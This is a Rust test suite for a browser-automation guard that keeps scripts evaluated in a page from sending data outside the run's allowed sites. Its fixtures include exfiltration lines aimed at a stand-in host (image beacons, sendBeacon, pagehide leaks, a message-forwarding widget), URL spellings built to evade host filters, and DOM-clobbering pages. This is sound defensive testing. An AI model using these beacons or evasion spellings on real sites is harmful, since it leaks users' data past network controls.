//! Scripts that a run carries out in a page: what they give back, and that nothing which they send, then or
//! later, leaves the run's sites. The ways out stand in `rows/scripts.toml`.

use crate::prelude::*;
use crate::stage::{Asked, HOME, NOBODY, Page, Peer, Run, Stage, within};

#[derive(Deserialize)]
struct Rows {
    ways: Vec<(String, String)>,
    leaves: Vec<(String, String)>,
    beside: Vec<(String, String)>,
}

static ROWS: LazyLock<Rows> =
    LazyLock::new(|| toml::from_str(include_str!("rows/scripts.toml")).unwrap());

fn pages(asked: &Asked) -> Page {
    let page = match asked.path.as_str() {
        "/redirect" => return Page::Redirect("http://stranger.example/redirected".into()),
        // A part of the page that sends on what it is told.
        "/widget" => {
            "<script>onmessage = (e) => { new Image().src = 'http://stranger.example/told?' + e.data }</script>"
        }
        "/framed" => "<iframe src='http://widget.example/widget'></iframe>",
        "/with-frame" => "<iframe src='/inner'></iframe>",
        "/clobbered" => {
            "<form name=head></form><form name=createElement></form><form id=head></form>"
        }
        path => return Page::Html(format!("<h1>{path}</h1><p id=said>Words of the page</p>")),
    };
    Page::Html(page.to_owned())
}

/// Loads a page, or stays where that was held.
async fn go(run: &Run, url: &str) {
    run.act(go_to(url)).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_gives_its_result_or_says_why_not() {
    let (_stage, run) = Stage::with_run(pages).await;
    let of_page = "return document.querySelector('#said').textContent";
    let of_function = "async () => ({ a: [1, null], b: await Promise.resolve('ж') })";
    for (code, text) in [
        (of_page, r#""Words of the page""#),
        (of_function, r#"{"a":[1,null],"b":"ж"}"#),
        ("function () { return 7 }", "7"),
        ("return 10n", "10"),
        ("const a = {}; a.a = a; return a", "[object Object]"),
        ("return '\\ud800'", r#""\ud800""#),
    ] {
        let outcome = run.evaluate(code).await;
        assert_eq!(outcome.status, ActionStatus::Ok, "{code}: {outcome:?}");
        assert_eq!(outcome.text.as_deref(), Some(text), "{code}");
    }
    let long = run.evaluate("return 'x'.repeat(1e6)").await;
    assert_eq!(long.text.unwrap().chars().count(), 20_001);
    let nothing = run.evaluate("document.title = 'Changed'").await;
    assert_eq!((nothing.status, nothing.text), (ActionStatus::Ok, None));
    assert_eq!(run.says("document.title").await, "Changed");
    let missing = "ReferenceError: missing is not defined";
    for (code, why, says) in [
        ("return missing.part", "threw", missing),
        ("await Promise.reject('a reason')", "threw", "a reason"),
        ("return (", "could not be read", "SyntaxError"),
    ] {
        let outcome = run.evaluate(code).await;
        assert_eq!(outcome.status, ActionStatus::Other, "{code}: {outcome:?}");
        assert!(outcome.detail.unwrap().contains(why), "{code}");
        assert!(outcome.text.unwrap().contains(says), "{code}");
    }
    // A message of the page is the script's effect, and the run may answer it.
    let asks = "const said = confirm('Go on?'); document.title = 'said ' + said";
    let asked = run.evaluate(asks).await;
    assert!(asked.detail.unwrap().contains("Go on?"));
    assert!(run.act(answer(true)).await.status.is_ok());
    let goes_on = async || run.says("document.title").await == "said true";
    comes("the script goes on", goes_on).await;
    // One that does not end is ended, and the page lives.
    let brief = ActOptions {
        deadline: Duration::from_secs(2),
        ..act_options()
    };
    for code in ["while (true) {}", "await new Promise(() => {})"] {
        let outcome = run.evaluate_within(code, &brief).await;
        assert_eq!(outcome.status, Timeout, "{code}: {outcome:?}");
        let next = run.evaluate("return 1").await;
        assert_eq!(next.text.as_deref(), Some("1"), "after {code}");
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_runs_in_the_document_that_it_was_judged_for_alone() {
    let (stage, run) = Stage::with_run(pages).await;
    let code = "document.title = 'ran'".into();
    let action = &Action::Evaluate { code };
    // Never judged.
    run.ends(action, FingerprintChanged).await;
    // Another document has the same address: it is another one to the guard, and to the browser.
    let before = run.browser.facts(action).await.unwrap();
    run.act(Action::Reload).await;
    run.ends(action, FingerprintChanged).await;
    let after = run.browser.facts(action).await.unwrap();
    assert_eq!(before.page_url, after.page_url);
    let prints = [before, after].map(|facts| copilot_guard::fingerprint(action, &facts));
    assert_ne!(prints[0], prints[1]);
    // One judgement is good for one use.
    run.ok(action).await;
    assert_eq!(run.says("document.title").await, "ran");
    run.ends(action, FingerprintChanged).await;
    // Where nothing holds requests no script is run.
    let free = stage.free_run(HOME).await;
    free.browser.facts(action).await.unwrap();
    free.ends(action, NotActionable).await;
}

fn aimed(name: &str, code: &str) -> String {
    format!(
        "const T = 'http://stranger.example/{name}'; {code}; setTimeout(() => fetch('/after-{name}'), 600)"
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn what_a_script_sends_stays_within_the_runs_sites() {
    let (stage, run) = Stage::with_run(pages).await;
    for (name, code) in &ROWS.ways {
        go(&run, HOME).await;
        let outcome = run.evaluate(&aimed(name, code)).await;
        assert!(outcome.status.is_ok(), "{name}: {outcome:?}");
        stage.heard(&format!("/after-{name}")).await;
        assert_eq!(stage.strangers(), NOBODY, "{name}");
        let url = run.snapshot().await.url;
        assert_eq!(url.trim_end_matches("#x"), HOME, "{name}");
        run.held_requests().await;
    }
    for (name, code) in &ROWS.leaves {
        go(&run, HOME).await;
        run.held_requests().await;
        run.evaluate(&aimed(&format!("leave-{name}"), code)).await;
        stage.heard(&format!("/after-leave-{name}")).await;
        assert_eq!(stage.strangers(), NOBODY, "{name}");
        assert!(run.snapshot().await.url.starts_with(HOME), "{name}");
        let held = run.held_requests().await;
        assert!(held.iter().all(|held| held.refused), "{name}: {held:?}");
    }
    // Within the run's sites it sends what it likes, and goes where it likes.
    go(&run, HOME).await;
    let both = "const a = await fetch('/own'); const b = await fetch('http://second.example/other'); return [a.ok, b.ok]";
    let both = run.evaluate(both).await;
    assert_eq!(both.text.as_deref(), Some("[true,true]"));
    run.evaluate("document.body.innerHTML = '<form method=post action=/posted></form>'; document.forms[0].submit()").await;
    stage.heard("POST home.example/posted").await;
    assert_eq!(stage.strangers(), NOBODY);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_was_stopped_is_told() {
    let stage = Stage::start(pages).await;
    let socket = "const s = new WebSocket(T.replace('http', 'ws')); await new Promise((done) => { s.onerror = s.onclose = done })";
    for (name, code) in [
        ("fetch", "await fetch(T).catch(() => 0)"),
        ("socket", socket),
        ("location", "location.href = T"),
    ] {
        let run = stage.run().await;
        let outcome = run.evaluate(&aimed(name, code)).await;
        // A way out is told when it is taken, which may be a moment after the script has ended.
        let mut told = Vec::new();
        comes(&format!("word of {name}"), async || {
            told.extend(run.held_requests().await);
            told.iter().any(|h| h.url.contains("stranger.example"))
        })
        .await;
        assert!(told.iter().all(|h| h.refused), "{name}: {told:?}");
        if name != "location" {
            let detail = outcome.detail.unwrap_or_default();
            let stopped = detail.contains("requests to stranger.example were stopped");
            assert!(stopped, "{name}: {detail:?}");
        }
        run.close().await;
    }
    assert_eq!(stage.strangers(), NOBODY);
}

#[tokio::test(flavor = "multi_thread")]
async fn other_spellings_frames_and_traps_change_nothing() {
    let (stage, run) = Stage::with_run(pages).await;
    for (n, to) in [
        "//stranger.example/a",
        "HTTP://STRANGER.EXAMPLE/a",
        "http://stranger%2eexample/a",
        "http://home.example@stranger.example/a",
        "http://stranger。example/a",
        "http:\\\\\\\\stranger.example/a",
        "http://stranger.example./a",
        "http://home.example.stranger.example/a",
        "http://2130706433/a",
        "http://0x7f.1/a",
        "http://[::ffff:127.0.0.1]/a",
        "http://home.example:80@127.1/a",
    ]
    .iter()
    .enumerate()
    {
        let code = format!(
            "const T = '{to}'; new Image().src = T; fetch(T, {{mode: 'no-cors'}}).catch(() => 0); \
             navigator.sendBeacon(T); setTimeout(() => fetch('/spelled-{n}'), 100)"
        );
        assert!(run.evaluate(&code).await.status.is_ok(), "{to}");
        stage.heard(&format!("/spelled-{n}")).await;
        assert_eq!(stage.strangers(), NOBODY, "{to}");
    }
    // A page that has given its own things the names that the hold needs.
    go(&run, "http://home.example/clobbered").await;
    let code = aimed("clobbered", "new WebSocket(T.replace('http', 'ws'))");
    let outcome = run.evaluate(&code).await;
    assert!(outcome.status.is_ok(), "{outcome:?}");
    stage.heard("/after-clobbered").await;
    assert_eq!(stage.strangers(), NOBODY);
    // What is sent while the page is left, when the next document is there already.
    go(&run, HOME).await;
    let leaving = "addEventListener('pagehide', () => { navigator.sendBeacon('http://stranger.example/left', 'x'); \
                   new Image().src = 'http://stranger.example/left'; fetch('http://stranger.example/left', {keepalive: true, mode: 'no-cors'}) })";
    assert!(run.evaluate(leaving).await.status.is_ok());
    go(&run, "http://home.example/next").await;
    run.says("fetch('/left-behind')").await;
    stage.heard("/left-behind").await;
    assert_eq!(stage.strangers(), NOBODY);
    // A frame of a stranger that sends on what it is told: its own requests are held with the page's.
    go(&run, "http://home.example/framed").await;
    let there = async || run.says("frames.length").await == 1;
    comes("the frame", there).await;
    stage.reached("/widget").await;
    run.snapshot().await;
    let tells =
        "frames[0].postMessage('words', '*'); setTimeout(() => fetch('/posted-to-frame'), 600)";
    assert!(run.evaluate(tells).await.status.is_ok());
    stage.heard("/posted-to-frame").await;
    let sent = stage.strangers();
    assert!(!sent.iter().any(|s| s.contains("/told")), "{sent:?}");
    // The next document of the page is as free as ever.
    go(&run, "http://home.example/after").await;
    run.says("new Image().src = 'http://stranger.example/picture'")
        .await;
    stage.reached("/picture").await;
}

/// What a script leaves behind in a page is gone before the hold is.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_of_a_script_outlives_its_run() {
    let stage = Stage::start(pages).await;
    for (n, more) in [
        "",
        "onbeforeunload = () => 'stay'",
        "setTimeout(() => alert('wait'), 50)",
        "setInterval(() => alert('again'), 50)",
    ]
    .iter()
    .enumerate()
    {
        let at = format!("{HOME}stays-{n}");
        let run = stage.run_at(&at).await;
        let code = format!(
            "window.left = 1; setInterval(() => {{ location.href = 'http://stranger.example/late' }}, 300); {more}"
        );
        run.evaluate(&code).await;
        run.detach().await;
        // The tab is there, with the page as it is loaded anew.
        let other = stage.chromium.person().await;
        let tabs = other.tabs().await.unwrap();
        // A page that does not let go of its document in time is closed.
        if let Some(tab) = tabs.iter().find(|tab| tab.url == at) {
            other.take_tab(&tab.id).await.unwrap();
            let left = other.says("String(window.left)").await;
            assert_eq!(left, "undefined", "{more}");
            other
                .tell("Page.navigate", json!({"url": "about:blank"}))
                .await;
        }
        other.detach().await;
    }
    assert_eq!(stage.strangers(), NOBODY);
}

fn beside(code: &str, peer: &Peer) -> String {
    format!(
        "const wait = (ms) => new Promise((done) => setTimeout(done, ms)); \
         const gather = async (w, urls) => {{ const p = new w.RTCPeerConnection({{iceServers: [{{urls, username: 'a', credential: 'b'}}]}}); \
         p.createDataChannel('a'); await p.setLocalDescription(); await wait(500) }}; \
         try {{ {} }} catch (e) {{ return 'threw ' + e }}",
        code.replace("PORT", &peer.port.to_string())
    )
}

#[tokio::test(flavor = "multi_thread")]
async fn a_script_connects_to_no_peers() {
    let stage = Stage::start(pages).await;
    let peer = Peer::open().await;
    let run = stage.run().await;
    for (name, code) in &ROWS.beside {
        go(&run, "http://home.example/with-frame").await;
        let outcome = run.evaluate(&beside(code, &peer)).await;
        assert_eq!(peer.came(), NOBODY, "{name}: {outcome:?}");
    }
    // The same where nothing holds them, so that each could have come.
    let mut lame = Vec::new();
    for (name, code) in &ROWS.beside {
        go(&run, "http://home.example/with-frame").await;
        peer.forget();
        let code = beside(code, &peer);
        let code = format!("(async () => {{ {code} }})().then((told) => {{ window.told = told }})");
        run.run_freely(&code).await;
        if !within(Duration::from_secs(5), || !peer.came().is_empty()).await {
            lame.push(format!("{name}: {}", run.says("window.told").await));
        }
    }
    assert_eq!(lame, NOBODY);
}

/// Without the hold each of the ways arrives, so the test above can fail.
#[tokio::test(flavor = "multi_thread")]
async fn the_ways_work_where_nothing_is_held() {
    let stage = Stage::start(pages).await;
    let run = stage.free_run(HOME).await;
    let mut lame = Vec::new();
    // Windows need a press of a person.
    let ways = ROWS.ways.iter().filter(|(name, _)| name != "window");
    for (name, code) in ways.chain(&ROWS.leaves) {
        go(&run, HOME).await;
        stage.strangers.lock().unwrap().clear();
        run.run_freely(&aimed(name, code)).await;
        if !within(DEADLINE, || !stage.strangers().is_empty()).await {
            lame.push(code);
        }
    }
    assert_eq!(lame, Vec::<&String>::new());
}
